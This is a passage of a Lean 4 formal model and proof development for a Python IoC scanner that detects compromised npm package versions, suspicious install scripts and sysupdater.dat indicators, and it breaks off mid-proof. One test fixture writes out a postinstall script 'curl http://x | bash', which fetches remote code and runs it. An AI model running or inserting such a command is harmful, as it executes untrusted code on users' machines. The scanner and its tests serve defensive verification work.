import Mathlib

/-!
Verification development for the IoC-Scanner repository (`scanner/core/common.py`,
`scanner/refs/packages.py`, `scanner/utils.py`).

Shallow embedding conventions:
* Python `dict`s that are only iterated/looked up are association lists.
* Machine strings are Lean `String`; comparisons are by Unicode code point
  (`Char.toNat`), matching CPython `str` comparison.
* Stateful appends to the shared `rows` list (`add_row`) are rendered as each
  scanner returning the list of rows it appends, in emission order; callers
  concatenate in call order.
* The cooperative cancellation token (`threading.Event`) is rendered as a
  monotone Boolean function of a poll counter: `cancel t` is the value the
  `t`-th call of `_should_stop` observes.
-/

/-- Code points of a string, the key on which CPython compares `str` values. -/
def strKeyN (s : String) : List Nat := s.data.map Char.toNat

/-- Python `<=` on strings: lexicographic comparison by code point. -/
def strLe (a b : String) : Prop := strKeyN a ≤ strKeyN b

instance : DecidableRel strLe :=
  fun a b => inferInstanceAs (Decidable (strKeyN a ≤ strKeyN b))

/-- Python `str.lower()` (ASCII range, which is all the scanner compares). -/
def strLower (s : String) : String := ⟨s.data.map Char.toLower⟩

/-- Python `str.strip()`: drop leading and trailing whitespace. -/
def strTrim (s : String) : String :=
  ⟨((s.data.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse⟩

/-- Python `sep.join(xs)`. -/
def joinWith (sep : String) : List String → String
  | [] => ""
  | [x] => x
  | x :: y :: rest => x ++ sep ++ joinWith sep (y :: rest)

/-- Does `p` occur at the head of `s`? -/
def startsWithL : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, x :: xs => p = x && startsWithL ps xs

/-- Python `pat in s` substring containment. -/
def containsSubL (pat : List Char) : List Char → Bool
  | [] => startsWithL pat []
  | c :: rest => startsWithL pat (c :: rest) || containsSubL pat rest

/-- One row of the result table, as built by `add_row` (plus the optional
`DescriptorPath` key that `scan_npm_project` sets on script rows). -/
structure Finding where
  category : String
  project : String
  item : String
  detail : String
  severity : String
  descriptorPath : Option String := none
deriving Repr, DecidableEq

/-- `add_row(rows, ...)` appends exactly this record (without `DescriptorPath`). -/
def add_row (category project item detail severity : String) : Finding :=
  { category := category, project := project, item := item, detail := detail,
    severity := severity, descriptorPath := none }

/-- `BAD_PACKAGES`: a JSON object mapping package name to the list of
known-compromised version strings, rendered as an association list
(keys unique in any real JSON object, but nothing below assumes it). -/
def Blocklist : Type := List (String × List String)

/-- The keys of the blocklist. -/
def blKeys (bl : Blocklist) : List String := bl.map Prod.fst

/-- `BAD_PACKAGES[name]` as seen by `is_compromised`: the version list of the
first entry for `name`, `[]` when `name` is not a key. -/
def blVersions (bl : Blocklist) (name : String) : List String :=
  match bl.find? (fun p => p.1 == name) with
  | some p => p.2
  | none => []

/-- `is_compromised(name, version)`: `name in BAD_PACKAGES and version in
BAD_PACKAGES[name]` (common.py:49-50). -/
def is_compromised (bl : Blocklist) (name version : String) : Bool :=
  match bl.find? (fun p => p.1 == name) with
  | some p => p.2.contains version
  | none => false

/-- `DEFAULT_BAD_PACKAGES` (packages.py:12-36), the fallback blocklist. -/
def DEFAULT_BAD_PACKAGES : Blocklist := [
  ("debug", ["4.4.2"]),
  ("color-name", ["2.0.1"]),
  ("strip-ansi", ["7.1.1"]),
  ("color", ["5.0.1"]),
  ("color-convert", ["3.1.1"]),
  ("color-string", ["2.1.1"]),
  ("has-ansi", ["6.0.1"]),
  ("ansi-styles", ["6.2.2"]),
  ("ansi-regex", ["6.2.1"]),
  ("supports-color", ["10.2.1"]),
  ("chalk", ["5.6.1"]),
  ("backslash", ["0.2.1"]),
  ("wrap-ansi", ["9.0.1"]),
  ("is-arrayish", ["0.3.3"]),
  ("error-ex", ["1.3.3"]),
  ("slice-ansi", ["7.1.1"]),
  ("simple-swizzle", ["0.2.3"]),
  ("chalk-template", ["1.1.1"]),
  ("supports-hyperlinks", ["4.1.1"]),
  ("duckdb", ["1.3.3"]),
  ("@duckdb/node-api", ["1.3.3"]),
  ("@duckdb/node-bindings", ["1.3.3"]),
  ("@duckdb/duckdb-wasm", ["1.29.2"])]

/-- `DEFAULT_EXTRA_TARGETS` (packages.py:38-59). -/
def DEFAULT_EXTRA_TARGETS : List String := [
  "supports-color", "ansi-styles", "ansi-regex", "wrap-ansi", "slice-ansi",
  "chalk-template", "supports-hyperlinks", "color-name", "color-string",
  "color-convert", "is-arrayish", "error-ex", "simple-swizzle", "backslash",
  "chalk", "debug", "duckdb", "@duckdb/node-api", "@duckdb/node-bindings",
  "@duckdb/duckdb-wasm"]

/-- `TARGETS = sorted(set(BAD_PACKAGES.keys()) | set(extra_targets))`
(packages.py:83), for an arbitrary loaded blocklist and extra-target list;
`sorted` is an ascending stable sort on code points. -/
def TARGETS (bl : Blocklist) (extra : List String) : List String :=
  List.insertionSort strLe ((blKeys bl ++ extra).dedup)

mutual
/-- The dependency graph fed to `walk_package_tree`: parsed JSON where a node
is either not a dict (walker returns immediately) or a dict with optional
`name` / `version` string entries and a `dependencies` mapping of child name
to child node.  A `version` entry that is `None`/absent is `none`; Python
truthiness makes the empty string behave like an absent version. -/
inductive PkgNode where
  | nonDict
  | node (name? : Option String) (version? : Option String) (deps : PkgForest)
deriving Repr, DecidableEq
inductive PkgForest where
  | fnil
  | fcons (name : String) (child : PkgNode) (rest : PkgForest)
deriving Repr, DecidableEq
end

/-- The `npm:packages` row built both by `walk_package_tree` (common.py:60-65)
and the lockfile scanners (common.py:149-156, 171-175, 188-192):
`f"{name}@{version} [{status}]"` with `À RISQUE`/`HIGH` when compromised,
`OK`/`INFO` otherwise. -/
def pkgRow (bl : Blocklist) (project name version detail : String) : Finding :=
  let compromised := is_compromised bl name version
  let status := if compromised then "À RISQUE" else "OK"
  let severity := if compromised then "HIGH" else "INFO"
  add_row "npm:packages" project s!"{name}@{version} [{status}]" detail severity

/-- Guard of the emission in `walk_package_tree` (common.py:59):
`current_name and version and current_name in TARGETS`. -/
def watchedHit (targets : List String) (current_name : String)
    (version? : Option String) : Option String :=
  match version? with
  | some version =>
    if current_name != "" && version != "" && targets.contains current_name then
      some version
    else none
  | none => none

mutual
/-- `walk_package_tree` (common.py:52-69), returning the rows it appends. -/
def walk_package_tree (bl : Blocklist) (targets : List String) (node : PkgNode)
    (current_name : String) (path_stack : List String) (project : String)
    (only_risk : Bool) : List Finding :=
  match node with
  | .nonDict => []
  | .node _ version? deps =>
    let own : List Finding :=
      match watchedHit targets current_name version? with
      | some version =>
        if !only_risk || is_compromised bl current_name version then
          [pkgRow bl project current_name version (joinWith " > " path_stack)]
        else []
      | none => []
    own ++ walk_package_forest bl targets deps path_stack project only_risk

/-- The `for depname, depnode in dependencies.items()` loop of
`walk_package_tree` (common.py:67-69). -/
def walk_package_forest (bl : Blocklist) (targets : List String)
    (deps : PkgForest) (path_stack : List String) (project : String)
    (only_risk : Bool) : List Finding :=
  match deps with
  | .fnil => []
  | .fcons depname depnode rest =>
    walk_package_tree bl targets depnode depname (path_stack ++ [depname])
        project only_risk
      ++ walk_package_forest bl targets rest path_stack project only_risk
end

mutual
/-- Modelled from the spec (§4.2, §8): the qualifying occurrences of watched
packages in a dependency graph — one `(name, version, breadcrumb)` triple per
visited node whose edge name is non-empty and watched and which has a
(non-empty, per Python truthiness) version, once per occurrence path. -/
def specNodeOccs (targets : List String) (node : PkgNode) (current_name : String)
    (path_stack : List String) : List (String × String × List String) :=
  match node with
  | .nonDict => []
  | .node _ version? deps =>
    (match watchedHit targets current_name version? with
     | some version => [(current_name, version, path_stack)]
     | none => []) ++ specForestOccs targets deps path_stack

/-- Spec-side occurrence collection over a dependency mapping. -/
def specForestOccs (targets : List String) (deps : PkgForest)
    (path_stack : List String) : List (String × String × List String) :=
  match deps with
  | .fnil => []
  | .fcons depname depnode rest =>
    specNodeOccs targets depnode depname (path_stack ++ [depname])
      ++ specForestOccs targets rest path_stack
end

/-- The row a qualifying occurrence turns into. -/
def occRow (bl : Blocklist) (project : String)
    (o : String × String × List String) : Finding :=
  pkgRow bl project o.1 o.2.1 (joinWith " > " o.2.2)

/-- `\w` of the `re` module, on the ASCII range the lockfiles use. -/
def isWordChar (c : Char) : Bool := c.isAlphanum || c = '_'

/-- Consume the literal characters `pat` at the head of `s`. -/
def stripLit : List Char → List Char → Option (List Char)
  | [], s => some s
  | _ :: _, [] => none
  | p :: ps, x :: xs => if x = p then stripLit ps xs else none

/-- Match `(\d+\.\d+\.\d+)\b` at the head of `s`: three maximal non-empty digit
runs separated by dots, with no word character directly after (the regex
backtracking of `\d+` cannot rescue a failed trailing `\b`, because any split
of a digit run leaves a digit — a word character — as the next char).
Returns the captured triplet and the number of characters consumed. -/
def matchVersionTail (s : List Char) : Option (String × Nat) :=
  let d1 := s.takeWhile Char.isDigit
  let s1 := s.drop d1.length
  if d1.isEmpty then none else
  match s1 with
  | [] => none
  | c1 :: s2 =>
    if c1 != '.' then none else
    let d2 := s2.takeWhile Char.isDigit
    let s3 := s2.drop d2.length
    if d2.isEmpty then none else
    match s3 with
    | [] => none
    | c2 :: s4 =>
      if c2 != '.' then none else
      let d3 := s4.takeWhile Char.isDigit
      let s5 := s4.drop d3.length
      if d3.isEmpty then none else
      let ver : String := ⟨d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3⟩
      let k := d1.length + d2.length + d3.length + 2
      match s5 with
      | [] => some (ver, k)
      | c3 :: _ => if isWordChar c3 then none else some (ver, k)

/-- Match `\b{name}@(\d+\.\d+\.\d+)\b` at the head of `s`, where `prevW` says
whether the character before `s` is a word character (`false` at the start of
the text).  The leading `\b` holds iff exactly one of the two sides is a word
character.  Returns the captured version and the consumed length. -/
def matchAt (name : List Char) (prevW : Bool) (s : List Char) :
    Option (String × Nat) :=
  match s with
  | [] => none
  | c :: _ =>
    if prevW = isWordChar c then none
    else
      match stripLit (name ++ ['@']) s with
      | none => none
      | some rest =>
        (matchVersionTail rest).map (fun p => (p.1, name.length + 1 + p.2))

/-- `re.finditer(rf"\b{name}@(\d+\.\d+\.\d+)\b", txt)`: scan left to right,
non-overlapping, resuming after each match (whose last character is a digit,
hence a word character).  The scan consumes at least one character per step,
so the fuel — one more than the text length — is never exhausted. -/
def findAllFuel (name : List Char) : Nat → Bool → List Char → List String
  | 0, _, _ => []
  | _ + 1, _, [] => []
  | fuel + 1, prevW, c :: rest =>
    match matchAt name prevW (c :: rest) with
    | some (v, k) => v :: findAllFuel name fuel true (rest.drop (k - 1))
    | none => findAllFuel name fuel (isWordChar c) rest

/-- The captured version strings of all non-overlapping matches, in order. -/
def findAll (name : List Char) (prevW : Bool) (s : List Char) : List String :=
  findAllFuel name (s.length + 1) prevW s

/-- The `yarn.lock` / `pnpm-lock.yaml` text scanner (common.py:163-178 and
180-195): for each watched name, each regex match emits one row whose detail
is the fixed literal naming the lockfile format. -/
def scan_lock_text (bl : Blocklist) (targets : List String) (txt : String)
    (project : String) (detail : String) (only_risk : Bool) : List Finding :=
  targets.flatMap (fun name =>
    (findAll name.data false txt.data).filterMap (fun ver =>
      if !only_risk || is_compromised bl name ver then
        some (pkgRow bl project name ver detail)
      else none))

/-- One `package-lock.json` `packages` entry as `scan_npm_project` reads it:
`none` when the entry's value is not a dict (skipped), otherwise its optional
`name` and `version` fields. -/
def LockEntry : Type := String × Option (Option String × Option String)

/-- The `package-lock.json` scanner (common.py:139-156): detail is the entry's
own key, a package path string. -/
def scan_lock_packages (bl : Blocklist) (targets : List String)
    (pkgs : List LockEntry) (project : String) (only_risk : Bool) :
    List Finding :=
  pkgs.flatMap (fun entry =>
    match entry.2 with
    | none => []
    | some (name?, version?) =>
      match name?, version? with
      | some name, some version =>
        if name != "" && version != "" && targets.contains name then
          if !only_risk || is_compromised bl name version then
            [pkgRow bl project name version entry.1]
          else []
        else []
      | _, _ => [])

/-- The `npm ls --all --json` block of `scan_npm_project` (common.py:114-127).
`decode` stands for `json.loads` on the captured stdout: `none` on
`JSONDecodeError`, `some .nonDict` for JSON that is not an object.  The walker
runs only when stripped stdout is non-empty, the exit code is 0, and the
parse yields an object; the root breadcrumb is the literal `["root"]` and the
root edge name is `data.get("name", "")`. -/
def npm_ls_part (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (has_npm cancelled : Bool)
    (code : Int) (out : String) (project : String) (only_risk : Bool) :
    List Finding :=
  if has_npm && !cancelled then
    if strTrim out != "" && code == 0 then
      match decode out with
      | some (PkgNode.node name? version? deps) =>
        walk_package_tree bl targets (PkgNode.node name? version? deps)
          (name?.getD "") ["root"] project only_risk
      | _ => []
    else []
  else []

/-- `re.search(r"(postinstall|prepare|install)", script_name, re.I)`:
case-insensitive substring search for one of the three install-phase words. -/
def isInstallPhase (script_name : String) : Bool :=
  ["postinstall", "prepare", "install"].any
    (fun w => containsSubL w.data (strLower script_name).data)

/-- The npm-scripts inspector (common.py:198-210): flag a script when its name
matches the install-phase regex or its command matches any suspicious pattern
(`suspicious` abstracts the remote-configurable `SUSPICIOUS_SCRIPT_PATTERNS`
matching); the manifest path is attached as `DescriptorPath`. -/
def scan_scripts (suspicious : String → Bool) (scripts : List (String × String))
    (project pkg_path : String) : List Finding :=
  scripts.flatMap (fun sc =>
    if isInstallPhase sc.1 || suspicious sc.2 then
      [{ add_row "npm:scripts" project sc.1 sc.2 "MEDIUM" with
          descriptorPath := some pkg_path }]
    else [])

/-- The `.npmrc` check (common.py:213-219) over the readable candidate files
(project-local and user-home), given as `(path, content)` pairs. -/
def scan_npmrc (npmrcs : List (String × String)) (project : String) :
    List Finding :=
  npmrcs.flatMap (fun rc =>
    if containsSubL "ignore-scripts=true".data rc.2.data then
      [add_row "npm:config" project "ignore-scripts" rc.1 "INFO"]
    else [])

mutual
/-- A directory on disk: its base name, subdirectories, and file names. -/
inductive DirTree where
  | mk (name : String) (subdirs : DirForest) (files : List String)
deriving Repr, DecidableEq
inductive DirForest where
  | dnil
  | dcons (child : DirTree) (rest : DirForest)
deriving Repr, DecidableEq
end

/-- Base name of the directory (`Path(dirpath).name`). -/
def DirTree.name : DirTree → String
  | .mk n _ _ => n

/-- `SYSUPDATER_NAMES` (packages.py:86). -/
def SYSUPDATER_NAMES : List String := [".sysupdater.dat", "sysupdater.dat"]

mutual
/-- `scan_sysupdater_in_dir` (common.py:81-95): `os.walk` over the project
directory, hashing (`hash` abstracts `sha256_of`, returning `""` on failure)
every file whose lowercased name is a sysupdater indicator. -/
def scan_sysupdater_in_dir (hash : String → String) (t : DirTree)
    (dirpath project_tag : String) : List Finding :=
  match t with
  | .mk _ subdirs files =>
    files.flatMap (fun filename =>
      if SYSUPDATER_NAMES.contains (strLower filename) then
        let full := dirpath ++ "/" ++ filename
        let digest := hash full
        let detail := if digest != "" then
            full ++ " (SHA256=" ++ digest ++ ")" else full
        [add_row "IoC:sysupdater" project_tag filename detail "HIGH"]
      else [])
    ++ scan_sysupdater_forest hash subdirs dirpath project_tag

/-- The recursion of `os.walk` below the current directory. -/
def scan_sysupdater_forest (hash : String → String) (ds : DirForest)
    (dirpath project_tag : String) : List Finding :=
  match ds with
  | .dnil => []
  | .dcons c rest =>
    scan_sysupdater_in_dir hash c (dirpath ++ "/" ++ c.name) project_tag
      ++ scan_sysupdater_forest hash rest dirpath project_tag
end

/-- The fixed built-in exclusion set of `scan_projects_under_root`
(common.py:248). -/
def BUILTIN_EXCLUDED : List String :=
  ["node_modules", ".git", ".hg", ".svn", ".cache", "__pycache__"]

/-- The pruning decision of `scan_projects_under_root` (common.py:243-262):
is the child directory `d` of the directory named `parentName` kept in
`dirnames` (descended into)?  `exclusions` is already stripped/lowercased. -/
def keepChild (exclusions : List String) (parentName d : String) : Bool :=
  let dl := strLower d
  if exclusions.contains dl || BUILTIN_EXCLUDED.contains dl then
    dl == "extensions" && strLower parentName != ".vscode"
  else
    !(dl == "extensions" && strLower parentName == ".vscode")

mutual
/-- One `os.walk` visit of `scan_projects_under_root` (common.py:234-272):
if the directory's depth relative to root exceeds `max_depth`, clear
`dirnames` and `continue` (which also skips the `package.json` detection for
this directory); otherwise prune the children through `keepChild`, record the
directory as a project root when its files contain `package.json`
(case-insensitively), and descend.  Returns the discovered project paths as
segment lists relative to root, in visit order. -/
def visitDir (excl : List String) (maxDepth : Nat) (t : DirTree) (depth : Nat)
    (path : List String) : List (List String) :=
  match t with
  | .mk name subdirs files =>
    if depth > maxDepth then []
    else
      (if (files.map strLower).contains "package.json" then [path] else [])
        ++ visitForest excl maxDepth name subdirs (depth + 1) path

/-- Descent into the kept children, in order. -/
def visitForest (excl : List String) (maxDepth : Nat) (parentName : String)
    (ds : DirForest) (childDepth : Nat) (path : List String) :
    List (List String) :=
  match ds with
  | .dnil => []
  | .dcons c rest =>
    (if keepChild excl parentName c.name then
       visitDir excl maxDepth c childDepth (path ++ [c.name])
     else [])
      ++ visitForest excl maxDepth parentName rest childDepth path
end

/-- `scan_projects_under_root` (common.py:227-272) restricted to its
discovery behaviour: which directories trigger `scan_npm_project`?  The
exclusion set is `{name.strip().lower() for name in exclude_names if name and
name.strip()}` (common.py:233). -/
def scan_projects_under_root (root : DirTree) (exclude_names : List String)
    (max_depth : Nat) : List (List String) :=
  let exclusions := (exclude_names.filter
      (fun s => s != "" && strTrim s != "")).map (fun s => strLower (strTrim s))
  visitDir exclusions max_depth root 0 []

/-- The world as `scan_npm_project` (common.py:97-225) observes it for one
project directory. -/
structure NpmEnv where
  /-- `(proj_dir / "package.json").exists()` -/
  pkg_exists : Bool
  /-- `str(pkg)` -/
  pkg_path : String
  /-- `which("npm")` -/
  has_npm : Bool
  /-- exit code of `npm ls --all --json` -/
  npm_code : Int
  /-- stdout of `npm ls --all --json` -/
  npm_out : String
  /-- `package-lock.json`: `none` if absent, `some none` if it does not parse
  to a dict with a `packages` dict, `some (some pkgs)` otherwise -/
  lock : Option (Option (List LockEntry))
  /-- `yarn.lock` content when present and readable -/
  yarn : Option String
  /-- `pnpm-lock.yaml` content when present and readable -/
  pnpm : Option String
  /-- the manifest's `scripts` mapping when the manifest parses to a dict
  with a `scripts` dict -/
  scripts : Option (List (String × String))
  /-- readable `.npmrc` candidates as `(path, content)` -/
  npmrcs : List (String × String)
  /-- the project directory's file tree, for the sysupdater sweep -/
  projTree : DirTree

/-- `scan_npm_project` (common.py:97-225), returning the rows it appends.
The cancellation token is modelled as constant over this call (`cancelled`);
`decode`, `suspicious` and `hash` abstract `json.loads`, the suspicious
script-pattern matcher, and `sha256_of`. -/
def scan_npm_project (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (suspicious : String → Bool)
    (hash : String → String) (env : NpmEnv) (project : String)
    (only_risk check_sysupdater check_scripts cancelled : Bool) :
    List Finding :=
  if cancelled then []
  else if !env.pkg_exists then []
  else
    npm_ls_part bl targets decode env.has_npm cancelled env.npm_code
        env.npm_out project only_risk
    ++ (match env.lock with
        | some (some pkgs) => scan_lock_packages bl targets pkgs project only_risk
        | _ => [])
    ++ (match env.yarn with
        | some txt => scan_lock_text bl targets txt project "yarn.lock" only_risk
        | none => [])
    ++ (match env.pnpm with
        | some txt => scan_lock_text bl targets txt project "pnpm-lock.yaml" only_risk
        | none => [])
    ++ (if check_scripts then
          (match env.scripts with
           | some scripts => scan_scripts suspicious scripts project env.pkg_path
           | none => [])
          ++ scan_npmrc env.npmrcs project
        else [])
    ++ (if check_sysupdater && !cancelled then
          scan_sysupdater_in_dir hash env.projTree project project
        else [])

/-- One top-level step of `run_scan_core` (common.py:483-587): its capability
flag, and its internal units of work, each preceded by a `_should_stop` poll
(a directory, a file batch, a process record...). -/
structure Step where
  enabled : Bool
  units : List (List Finding)
deriving Repr, DecidableEq

/-- Run one step's units: poll before each unit; once the token is observed
set, return what was collected so far (common.py: the `if _should_stop(cancel):
return` inside every scanner loop).  Threads the poll counter. -/
def runUnits (cancel : Nat → Bool) : List (List Finding) → Nat →
    List Finding × Nat
  | [], t => ([], t)
  | u :: us, t =>
    if cancel t then ([], t + 1)
    else
      let p := runUnits cancel us (t + 1)
      (u ++ p.1, p.2)

/-- Run the fixed step sequence of `run_scan_core`: every step's guard
`not _should_stop(cancel) and flag` polls the token once; a step whose flag is
off, or polled after cancellation, contributes nothing but the later guards
still poll. -/
def runSteps (cancel : Nat → Bool) : List Step → Nat → List Finding × Nat
  | [], t => ([], t)
  | s :: ss, t =>
    if cancel t then runSteps cancel ss (t + 1)
    else if s.enabled then
      let u := runUnits cancel s.units (t + 1)
      let p := runSteps cancel ss u.2
      (u.1 ++ p.1, p.2)
    else runSteps cancel ss (t + 1)

/-- The sort key of the final sort (common.py:591):
`itemgetter("Category", "Project", "Item", "Detail")`, tuples and strings
compared lexicographically by code point. -/
def rowKeyN (f : Finding) : List (List Nat) :=
  [strKeyN f.category, strKeyN f.project, strKeyN f.item, strKeyN f.detail]

/-- Python's tuple comparison on the four-field key. -/
def rowOrd (a b : Finding) : Prop := rowKeyN a ≤ rowKeyN b

instance : DecidableRel rowOrd :=
  fun a b => inferInstanceAs (Decidable (rowKeyN a ≤ rowKeyN b))

instance : IsTotal Finding rowOrd := ⟨fun a b => le_total (rowKeyN a) (rowKeyN b)⟩

instance : IsTrans Finding rowOrd := ⟨fun _ _ _ hab hbc => le_trans hab hbc⟩

/-- `rows.sort(key=itemgetter("Category", "Project", "Item", "Detail"))`:
Python's stable ascending sort, modelled by the stable `insertionSort`. -/
def sortFindings (rows : List Finding) : List Finding :=
  List.insertionSort rowOrd rows

/-- The summary dict returned by `run_scan_core` (common.py:599-605). -/
structure Summary where
  total : Nat
  high : Nat
deriving Repr, DecidableEq

/-- `sum(1 for r in rows if r["Severity"] == "HIGH")`. -/
def countHigh (rows : List Finding) : Nat :=
  rows.countP (fun r => r.severity == "HIGH")

/-- `run_scan_core` (common.py:464-605): run the steps from poll instant 0,
sort the collected rows, and compute the summary over the sorted list. -/
def run_scan_core (steps : List Step) (cancel : Nat → Bool) :
    List Finding × Summary :=
  let rows := (runSteps cancel steps 0).1
  let sorted := sortFindings rows
  (sorted, { total := sorted.length, high := countHigh sorted })

/-- The rows `run_scan_core` has collected before the final sort. -/
def collectedRows (steps : List Step) (cancel : Nat → Bool) : List Finding :=
  (runSteps cancel steps 0).1

/-- A token that is never set. -/
def noCancel : Nat → Bool := fun _ => false

/-- The token is set-once: once a poll observes it, every later poll does. -/
def MonotoneCancel (cancel : Nat → Bool) : Prop :=
  ∀ i j, i ≤ j → cancel i = true → cancel j = true

/-- The rows of an uncancelled run: every enabled step contributes all its
units, in step order. -/
def fullRows : List Step → List Finding
  | [] => []
  | s :: ss => (if s.enabled then s.units.flatten else []) ++ fullRows ss

/-- Is `v` exactly a semantic-version triplet `\d+\.\d+\.\d+`?  Phrased
through the matcher itself: the version tail parses at the head of `v` and
consumes all of it. -/
def isTriplet (v : String) : Bool :=
  matchVersionTail v.data == some (v, v.data.length)


/-! ### Concrete fixtures used by witnesses and counterexamples -/

/-- `TARGETS` as computed from the fallback signature lists. -/
def defaultTargets : List String := TARGETS DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS

/-- A shared subtree reached through two dependency paths. -/
def diamondLeaf : PkgNode := .node none (some "5.6.1") .fnil

/-- A diamond dependency graph: `app` depends on `a` and `b`, each of which
depends on the same `chalk@5.6.1` subtree. -/
def diamondGraph : PkgNode :=
  .node (some "app") (some "1.0.0")
    (.fcons "a" (.node none (some "1.0.0") (.fcons "chalk" diamondLeaf .fnil))
      (.fcons "b" (.node none (some "1.0.0") (.fcons "chalk" diamondLeaf .fnil))
        .fnil))

/-- `root/a/package.json`, one level below the scan root. -/
def treeDeep : DirTree :=
  .mk "root" (.dcons (.mk "a" .dnil ["package.json"]) .dnil) []

/-- `root/package.json` plus `root/node_modules/{package.json, x/package.json}`. -/
def treeNodeModules : DirTree :=
  .mk "root"
    (.dcons (.mk "node_modules"
        (.dcons (.mk "x" .dnil ["package.json"]) .dnil) ["package.json"])
      .dnil)
    ["package.json"]

/-- `root/.vscode/extensions/foo/package.json`. -/
def treeVscode : DirTree :=
  .mk "root"
    (.dcons (.mk ".vscode"
        (.dcons (.mk "extensions"
            (.dcons (.mk "foo" .dnil ["package.json"]) .dnil) [])
          .dnil) [])
      .dnil) []

/-- `root/src/extensions/foo/package.json` (parent of `extensions` is not
`.vscode`). -/
def treeSrcExtensions : DirTree :=
  .mk "root"
    (.dcons (.mk "src"
        (.dcons (.mk "extensions"
            (.dcons (.mk "foo" .dnil ["package.json"]) .dnil) [])
          .dnil) [])
      .dnil) []

/-- Sample rows for the orchestrator fixtures. -/
def rowA : Finding := add_row "c" "p1" "i1" "d1" "HIGH"

/-- Sample row. -/
def rowB : Finding := add_row "b" "p2" "i2" "d2" "INFO"

/-- Sample row. -/
def rowC : Finding := add_row "a" "p3" "i3" "d3" "HIGH"

/-- Two enabled steps: the first has two units, the second one. -/
def demoSteps : List Step :=
  [{ enabled := true, units := [[rowA], [rowB]] },
   { enabled := true, units := [[rowC]] }]

/-- A token set between the second and third poll: the scan is cancelled
mid-way through the first step. -/
def demoCancel : Nat → Bool := fun t => decide (2 ≤ t)

/-- Lockfile text containing a pre-release suffix, a name embedded in a
longer word, and a two-component version. -/
def txtYarn : String := "chalk@5.6.1-beta\nxchalk@9.9.9\nchalk@5.6\n"

/-- A parsed `npm ls` tree handed out by the stubbed `json.loads`. -/
def demoDecode : String → Option PkgNode := fun _ =>
  some (.node (some "app") (some "1.0.0")
    (.fcons "chalk" (.node none (some "5.6.1") .fnil) .fnil))

/-- An npm-project environment whose `npm ls` exited 1 while every other
source has data. -/
def envC10 : NpmEnv :=
  { pkg_exists := true
    pkg_path := "/p/package.json"
    has_npm := true
    npm_code := 1
    npm_out := "\x7b\x7d"
    lock := some (some [("node_modules/chalk", some (some "chalk", some "5.6.1"))])
    yarn := none
    pnpm := none
    scripts := some [("postinstall", "curl http://x | bash")]
    npmrcs := []
    projTree := .mk "p" .dnil [] }

/-! ### Theorems -/

/-- `name in BAD_PACKAGES and version in BAD_PACKAGES[name]`, unfolded to
membership of the key list and of the key's version list. -/
theorem is_compromised_eq_true_iff (bl : Blocklist) (n v : String) :
    is_compromised bl n v = true ↔ n ∈ blKeys bl ∧ v ∈ blVersions bl n := by
  induction bl with
  | nil => simp [is_compromised, blKeys, blVersions]
  | cons p rest ih =>
    by_cases h : p.1 = n
    · subst h
      simp [is_compromised, blKeys, blVersions, List.find?_cons]
    · have hne : (p.1 == n) = false := by
        simpa using h
      simp only [is_compromised, blKeys, blVersions, List.find?_cons, hne,
        List.map_cons, List.mem_cons] at ih ⊢
      rw [ih]
      constructor
      · rintro ⟨hk, hv⟩
        exact ⟨Or.inr hk, hv⟩
      · rintro ⟨hk, hv⟩
        rcases hk with hk | hk
        · exact absurd hk.symm h
        · exact ⟨hk, hv⟩

/-- C4: for every pair of strings, `is_compromised(name, version)` is true iff
`name` is a key of the blocklist and `version` is literally a member of that
key's compromised-version list; the concrete evaluations on the default
blocklist show exact string equality — no semver ranges, no prefix logic, no
normalization of pre-release suffixes. -/
theorem is_compromised_spec :
    (∀ (bl : Blocklist) (n v : String),
        is_compromised bl n v = true ↔ n ∈ blKeys bl ∧ v ∈ blVersions bl n)
    ∧ is_compromised DEFAULT_BAD_PACKAGES "chalk" "5.6.1" = true
    ∧ is_compromised DEFAULT_BAD_PACKAGES "chalk" "5.6.0" = false
    ∧ is_compromised DEFAULT_BAD_PACKAGES "chalk" "5.6.1-beta" = false
    ∧ is_compromised DEFAULT_BAD_PACKAGES "chalk" "5.6" = false
    ∧ is_compromised DEFAULT_BAD_PACKAGES "debug" "4.4.20" = false
    ∧ is_compromised DEFAULT_BAD_PACKAGES "left-pad" "4.4.2" = false :=
  ⟨is_compromised_eq_true_iff, by decide, by decide, by decide, by decide,
    by decide, by decide⟩

mutual
/-- With `only_risk=False`, the walker emits exactly the rows of the
spec-side occurrence list, in order: one per qualifying node occurrence. -/
theorem walk_eq_specOccs (bl : Blocklist) (targets : List String)
    (node : PkgNode) (nm : String) (stack : List String) (proj : String) :
    walk_package_tree bl targets node nm stack proj false =
      (specNodeOccs targets node nm stack).map (occRow bl proj) := by
  cases node with
  | nonDict => rfl
  | node name? version? deps =>
    have ih := walkF_eq_specOccs bl targets deps stack proj
    simp only [walk_package_tree, specNodeOccs, List.map_append, ih]
    cases watchedHit targets nm version? with
    | none => simp
    | some version => simp [occRow]

/-- Forest version of `walk_eq_specOccs`. -/
theorem walkF_eq_specOccs (bl : Blocklist) (targets : List String)
    (deps : PkgForest) (stack : List String) (proj : String) :
    walk_package_forest bl targets deps stack proj false =
      (specForestOccs targets deps stack).map (occRow bl proj) := by
  cases deps with
  | fnil => rfl
  | fcons n c rest =>
    have ih1 := walk_eq_specOccs bl targets c n (stack ++ [n]) proj
    have ih2 := walkF_eq_specOccs bl targets rest stack proj
    simp [walk_package_forest, specForestOccs, ih1, ih2]
end

mutual
/-- `only_risk=True` keeps exactly the `HIGH` rows of the `only_risk=False`
walk. -/
theorem walk_true_eq_filter (bl : Blocklist) (targets : List String)
    (node : PkgNode) (nm : String) (stack : List String) (proj : String) :
    walk_package_tree bl targets node nm stack proj true =
      (walk_package_tree bl targets node nm stack proj false).filter
        (fun r => r.severity == "HIGH") := by
  cases node with
  | nonDict => rfl
  | node name? version? deps =>
    have ih := walkF_true_eq_filter bl targets deps stack proj
    simp only [walk_package_tree, List.filter_append, ih]
    congr 1
    cases watchedHit targets nm version? with
    | none => rfl
    | some version =>
      cases hc : is_compromised bl nm version with
      | false => simp [pkgRow, add_row, hc]
      | true => simp [pkgRow, add_row, hc]

/-- Forest version of `walk_true_eq_filter`. -/
theorem walkF_true_eq_filter (bl : Blocklist) (targets : List String)
    (deps : PkgForest) (stack : List String) (proj : String) :
    walk_package_forest bl targets deps stack proj true =
      (walk_package_forest bl targets deps stack proj false).filter
